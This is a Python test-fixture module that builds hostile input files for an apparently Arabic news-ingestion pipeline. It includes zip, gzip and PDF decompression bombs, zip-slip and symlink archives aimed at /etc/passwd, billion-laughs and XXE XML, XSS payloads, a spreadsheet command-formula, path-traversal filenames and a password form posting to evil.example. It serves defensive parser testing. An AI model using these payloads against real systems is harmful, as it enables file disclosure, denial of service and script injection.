"""Files that mean harm, made here: what they are called, and what is in them."""

import gzip
import io
import json
import stat
import tarfile
import zipfile
import zlib

NEWS = "قال متحدث باسم بلدية النهر إن ثلاثة عمال أصيبوا في انهيار جدار قرب السوق القديم صباح أمس"
SCRIPT = "<script>alert('harm')</script>"
IMAGE = '"><img src=x onerror=alert("harm")>'
FORMULA = "=cmd|' /C calc'!A0"
ZEROS = 200 * 2**20  # bytes a bomb unpacks to: three times what one article may have


def packed(**members: bytes) -> bytes:
    """A zip archive; `__` in a name stands for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, content in members.items():
            pack.writestr(name.replace("__", "."), content)
    return out.getvalue()


def slipping() -> bytes:
    """A zip whose members name places outside, and a link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as pack:
        pack.writestr("../../../../tmp/rasid-slipped.txt", f"{NEWS} الأول.")
        pack.writestr("/etc/rasid-slipped.txt", f"{NEWS} الثاني.")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        pack.writestr(link, "/etc/passwd")
    return out.getvalue()


def tar() -> bytes:
    """A tar with a link to the system's users."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as pack:
        link = tarfile.TarInfo("link.txt")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        pack.addfile(link)
    return out.getvalue()


def many(number: int) -> bytes:
    """A zip of very many files with next to nothing in them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as pack:
        for at in range(number):
            pack.writestr(f"{at}.txt", b"")
    return out.getvalue()


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first of which is its catalogue."""
    made = b"%PDF-1.4\n"
    for number, content in enumerate(objects, 1):
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return made + b"trailer << /Root 1 0 R /Size %d >>\n%%%%EOF" % (len(objects) + 1)


CYCLE = pdf(
    [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"]
)
FLATE = zlib.compress(b" " * (ZEROS // 4))
BOMB = pdf(
    [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /MediaBox [0 0 9 9] >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(FLATE), FLATE),
    ]
)
ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e0 "ha">{ENTITIES}]><rss><channel><title>&e9;</title></channel></rss>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>'
WORD = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{ENTITIES}]><w:document xmlns:w="x"><w:body>&e9;</w:body></w:document>'
PAGE = f"""<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<title>خبر {IMAGE}</title></head><body><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>
<script>alert('harm')</script><article><p onclick="alert('harm')">{NEWS} الثالث.</p><p>{NEWS} الرابع.</p></article>
<a href="javascript:alert('harm')">x</a></body></html>"""


def article(**known: object) -> bytes:
    """An article in JSON."""
    return json.dumps(known).encode()


FILES: list[tuple[str, bytes]] = [
    ("خبر سليم.txt", f"{NEWS} وهو خبر سليم.".encode()),
    (f"{SCRIPT}.txt", f"{NEWS} الخامس.".encode()),
    ("markup.json", article(title=f"{SCRIPT}{IMAGE}", text=f"{NEWS} {SCRIPT}", outlet=SCRIPT, author=IMAGE)),
    ("formulas.json", article(title=FORMULA, text=f"{NEWS} السادس.", outlet="@SUM(1)", author="+1")),
    (f"{FORMULA}.txt", b""),
    ("turned \u202etxt.exe", f"{NEWS} السابع.".encode()),
    ("bidi.json", article(title="\u202eخبر\u0000", text=f"{NEWS} الثامن \u202e\u2066.")),
    ("a\0b.txt", f"{NEWS} التاسع.".encode()),
    ("../../../etc/passwd", b"\x00\x01"),
    ("..\\..\\windows\\x.txt", f"{NEWS} العاشر.".encode()),
    ("x" * 300 + ".txt", f"{NEWS} الحادي عشر.".encode()),
    ("bomb.zip", packed(zeros__txt=b"\0" * ZEROS, good__txt=f"{NEWS} من القنبلة.".encode())),
    ("nested.zip", packed(inner__zip=packed(a__txt=b"a"))),
    ("slip.zip", slipping()),
    ("bomb.txt.gz", gzip.compress(b"\0" * ZEROS, 1)),
    ("line.jsonl.gz", gzip.compress(b'{"text": "' + b"a" * (65 * 2**20), 1)),
    ("cycle.pdf", CYCLE),
    ("bomb.pdf", BOMB),
    ("laughs.xml", LAUGHS.encode()),
    ("outside.xml", OUTSIDE.encode()),
    ("bomb.docx", packed(**{"word/document__xml": WORD.encode(), "[Content_Types]__xml": b"<Types/>"})),
    ("picture.html", b"\x89PNG\r\n\x1a\n" + b"\x00\xff" * 500),
    ("program.pdf", b"MZ\x90\x00" * 100),
    ("empty.txt", b""),
    ("links.tar", tar()),
    ("links.tar.gz", gzip.compress(tar())),
    ("broken.txt", b"\xff\xfe\xd8\x00\xd8" * 30),
    ("surrogate.json", b'{"title": "\\ud800", "text": "' + f"{NEWS} الثاني عشر.".encode() + b'"}'),
    ("exif.txt", b"\xff\xd8\xff\xe1Exif\x00\x00" + bytes(range(256)) * 20),
    ("page.html", PAGE.encode()),
    ("drawing.svg", f"<svg onload=\"alert('harm')\">{SCRIPT}<text>{NEWS}</text></svg>".encode()),
    ("addresses.json", article(url="javascript:alert('harm')", text=f"{NEWS} الثالث عشر.")),
    ("data.json", article(url=f"data:text/html,{SCRIPT}", text=f"{NEWS} الرابع عشر.")),
    ("wide.csv", b",".join(b"c%d" % n for n in range(100_000)) + b"\n" + b"," * 99_999 + b"\n"),
    ("deep.json", b"[" * 1_000_000),
    ("deep objects.json", b'{"a":' * 200_000 + b"1" + b"}" * 200_000),
    (
        "deep mail.eml",
        b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(2000)),
    ),
    ("half.warc", b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999\r\n\r\nHTTP/1.1 200 OK\r\n"),
    ("half.parquet", b"PAR1" + b"\xff" * 500 + b"PAR1"),
]
